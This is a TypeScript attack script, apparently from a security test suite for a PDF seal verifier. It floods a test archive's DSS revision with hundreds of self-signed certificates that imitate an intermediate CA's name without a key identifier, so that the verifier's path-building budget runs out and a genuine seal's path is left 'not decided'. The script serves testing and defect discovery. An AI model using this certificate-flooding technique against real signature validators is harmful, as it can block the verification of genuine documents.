// hs6a's U1d class fix (744b80b, src/pki/chain.ts pathCandidates): candidate issuers are found by name (and by
// SKI = AKI when *both* state one) and each costs a signature check; past MAX_LINK_CHECKS (256) the path is "not
// decided" (budgetReached). Certificates with the issuing CA's name and no subject key identifier pass the filter,
// and anyone can add them (a DSS revision, a CMS's certificate set): 257 of them make a genuine seal's path "not
// decided" whenever its issuing CA is not itself an anchor (a trust store holding the root, as RFC 5280 intends).
// The budget that was to stop "junk decides" (U1d) is itself spendable by junk.
// Scenario: attack-s5 I1's hierarchy (scripts/generator/hierarchy.ts: "Sealcheck Test Nets Root" -> "NETS AS
// Intermediate CA" -> the seal), the root the only seal anchor; the genuine archive carries the CA in the seal's CMS,
// and an LTV revision the root's CRL.
//   npx tsx scripts/attack-s8/path-budget.ts [dss|honest] [N]
// dss: that revision also lists N (default 300) self-signed certificates named "C=DK, O=Nets A/S,
// CN=NETS AS Intermediate CA" without SKI (anyone's key). honest: the genuine archive alone (or `honest 200`: below
// the budget). Verified now with the root as anchor; DSS=1 adds EU DSS with the same anchors.
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { buildArchive } from "../generator/archive.js";
import { OIDS } from "../generator/der.js";
import { generateRsaKey } from "../generator/keys.js";
import { createCrl } from "../generator/ocsp.js";
import { extensions, issueCertificate, serialFor } from "../generator/pki.js";
import { sealCaUnderRoot } from "../generator/hierarchy.js";
import { dss, pki, save, show, verify, withDss, work } from "../attack36/lib.js";

const mode = process.argv[2] ?? "dss";
if (!["dss", "honest"].includes(mode)) throw new Error(`mode: dss|honest, not ${mode}`);
const n = Number(process.argv[3] ?? (mode === "dss" ? 300 : 0));
const P = pki();
const dir = work(`s8-path-budget-${mode}-${n}`);
const { root, ca, pki: pkiI } = sealCaUnderRoot(P, "attack-s8-path-budget");
const sealed = (await buildArchive(pkiI, { seal: { certificates: [P.seal, ca] } })).pdf;
const junkKey = generateRsaKey(1024);
const junk = Array.from({ length: n }, (_, i) =>
  issueCertificate({
    subject: [
      [OIDS.country, "DK"],
      [OIDS.organization, "Nets A/S"],
      [OIDS.commonName, "NETS AS Intermediate CA"],
    ],
    subjectKey: junkKey,
    notBefore: new Date("2020-01-01T00:00:00Z"),
    notAfter: new Date("2125-01-01T00:00:00Z"),
    serial: serialFor(`attack-s8-path-budget-${i}`),
    extensions: [extensions.basicConstraints(true), extensions.keyUsage("keyCertSign", "cRLSign")],
  }),
);
// The root's CRL about the CA (an archivist's LTV revision, in both modes): the CA's revocation at the sealing time.
const rootCrl = createCrl({ issuer: root, number: 7, thisUpdate: new Date("2025-12-05T00:00:00Z"), nextUpdate: new Date("2026-01-05T00:00:00Z") });
const file = save(dir, "archive.pdf", withDss(sealed, { certs: junk, crls: [rootCrl] }));
const trust = join(dir, "trust");
mkdirSync(trust);
for (const [i, c] of [root, P.tsaRoot, P.tokenCa, P.tokenRoot].entries()) writeFileSync(join(trust, `${i}.pem`), c.pem);
console.log(
  `wrote ${file}: a genuine archive (seal <- NETS AS Intermediate CA <- the root, the anchor); a DSS revision with the root's CRL${n ? ` and ${n} certificates named like the CA, no SKI` : ""}`,
);
show(`${mode} ${n}`, verify(file, [], undefined, trust));
dss(file, undefined, trust);
